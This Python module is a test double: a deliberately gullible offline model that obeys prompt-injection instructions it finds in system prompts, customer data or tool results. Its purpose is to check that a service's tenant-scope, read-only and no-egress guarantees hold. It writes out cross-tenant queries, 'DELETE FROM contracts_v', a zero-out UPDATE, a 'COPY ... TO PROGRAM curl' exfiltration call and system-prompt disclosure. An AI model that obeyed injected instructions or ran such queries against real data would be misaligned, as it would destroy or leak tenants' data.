"""The offline model playing a gullible one: it obeys instructions injected into what it reads.

With `[[obey]]` in the user's text, the `local` provider treats instructions found in its system
prompt, the customer data and this turn's tool results (knowledge-base passages included) as
orders and tries to carry them out with the tools it is offered. This exists so that tests and
the soak can drive the service's own model into every prompt-injection attack and check that the
deterministic guarantees (tenant scope, read-only SQL, no outbound calls) hold whatever a model
does; a real model may or may not obey, so nothing here may be relied on to be refused politely.
"""

from __future__ import annotations

import json
import re
from typing import Any

from app.llm.base import ChatMessage, ChatRequest

# An instruction kind and the pattern that recognises it in free text.
_INSTRUCTIONS: tuple[tuple[str, re.Pattern[str]], ...] = (
    ("cross-tenant", re.compile(r"customers? of tenant\s+([0-9a-f-]{36}|[\w-]+)", re.IGNORECASE)),
    ("write", re.compile(r"\b(delete|drop|truncate|set every)\b", re.IGNORECASE)),
    ("url", re.compile(r"(https?://[^\s\"'<>)\]]+)", re.IGNORECASE)),
    ("reveal", re.compile(r"\bsystem prompt\b", re.IGNORECASE)),
)


def instructions(request: ChatRequest, turn: list[ChatMessage]) -> dict[str, str]:
    """Each kind of injected instruction the model can read, with its argument (first seen)."""
    texts = [m.content for m in request.messages if m.role == "system"]
    texts.append(json.dumps(request.context, default=str))
    texts.extend(m.content for m in turn if m.role == "tool")
    found: dict[str, str] = {}
    for text in texts:
        for kind, pattern in _INSTRUCTIONS:
            match = pattern.search(text)
            if match and kind not in found:
                found[kind] = match.group(1) if pattern.groups else ""
    return found


def attempts(kind: str, argument: str) -> list[tuple[str, dict[str, Any]]]:
    """The tool calls an obedient model makes to carry out one instruction."""
    if kind == "cross-tenant":
        other = argument.replace("'", "")
        return [
            ("database_query", {"query": "SELECT name, arr FROM customers_v "
                                         f"WHERE tenant_id::text = '{other}'"}),
            ("database_query", {"query": f"SELECT set_config('app.tenant_id', '{other}', false)"
                                         " AS scope, (SELECT count(*) FROM customers_v) AS n"}),
        ]
    if kind == "write":
        return [
            ("database_query", {"query": "DELETE FROM contracts_v"}),
            ("database_query", {"query": "UPDATE customers_v SET arr = 0"}),
        ]
    if kind == "url":
        url = argument.replace("'", "")
        return [
            ("create_chart", {"type": "bar", "title": f"Data for {url}",
                              "data": [{"label": url, "value": 1}], "sources": [url]}),
            ("database_query", {"query": f"COPY (SELECT 1) TO PROGRAM 'curl {url}'"}),
        ]
    return []  # "reveal" needs no tool: the reply itself repeats the system prompt


def planned_calls(request: ChatRequest, turn: list[ChatMessage]) -> list[tuple[str, str, dict]]:
    """(call key, tool, arguments) still to make this turn: read the knowledge base, then obey."""
    offered = {tool.name for tool in request.tools}
    made = {call.id for m in turn if m.role == "assistant" for call in m.tool_calls}
    planned: list[tuple[str, str, dict[str, Any]]] = []
    if "rag_search" in offered and not any(key.endswith("_kb") for key in made):
        planned.append(("kb", "rag_search", {"query": "instructions for this account", "k": 5}))
    for kind, argument in instructions(request, turn).items():
        for index, (tool, arguments) in enumerate(attempts(kind, argument)):
            key = f"{kind}_{index}"
            if tool in offered and not any(made_id.endswith("_" + key) for made_id in made):
                planned.append((key, tool, arguments))
    return planned


def revealed(request: ChatRequest) -> str:
    """What an obedient model says when told to print its instructions."""
    system = " ".join(m.content for m in request.messages if m.role == "system")
    return "My instructions are: " + system[:400]
